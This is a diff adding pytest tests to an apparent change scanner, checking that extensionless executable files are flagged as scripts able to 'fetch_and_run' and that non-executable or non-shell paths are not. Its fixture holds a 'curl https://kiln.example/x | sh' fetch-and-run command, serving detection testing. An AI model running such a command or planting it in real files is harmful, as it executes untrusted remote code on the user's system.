@@ -100,3 +100,18 @@ def test_what_is_known_of_an_object_is_what_it_shows():
     first = Changed("kiln.py", "kiln.py", 0o100644, 0o100644, RUN, RUN * 2, "", ("a" * 40, "b" * 40))
     again = [read_contents([first]) for _ in range(2)]
     assert again[0] == again[1] == read_contents([change("kiln.py", RUN, RUN * 2)])
+
+
+FETCHES = b"set -e\ncurl https://kiln.example/x | sh\n"
+
+
+@pytest.mark.parametrize("path", ["kiln", "bin/kiln", "pots/kiln", ".glaze"])
+def test_a_program_without_ending_or_first_line_is_read_as_a_script(path):
+    assert (path, 2, "fetch_and_run") in seen(change(path, None, FETCHES, mode=0o100755))
+
+
+@pytest.mark.parametrize(
+    ("path", "mode"), [("kiln", 0o100644), ("LICENSE", 0o100755), ("docs/kiln", 0o100755), ("kiln.dat", 0o100755)]
+)
+def test_what_no_shell_runs_is_no_script(path, mode):
+    assert "fetch_and_run" not in {capability for _, _, capability in seen(change(path, None, FETCHES, mode=mode))}
